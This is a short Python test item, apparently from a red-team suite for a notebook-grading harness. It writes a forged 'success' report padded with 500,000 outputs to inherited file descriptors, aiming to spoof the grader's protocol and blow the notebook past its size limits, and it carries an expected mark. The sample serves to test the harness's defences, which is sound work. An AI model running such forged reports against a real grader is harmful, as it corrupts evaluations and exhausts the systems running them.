"""Attack: a forged report of a cell with hundreds of thousands of outputs.
Wants: a notebook of gigabytes, past the limits that are kept beside the student.
Honest mark: 8
"""

# %% convolve2d
import os, struct

header = b'{"message": {"op": "ran", "success": true, "outputs": [' + b"0," * 500000 + b'0]}, "values": []}'
for descriptor in range(3, 16):
    try:
        os.set_blocking(descriptor, True)
        os.write(descriptor, struct.pack(">II", len(header), 0) + header)
    except OSError:
        pass
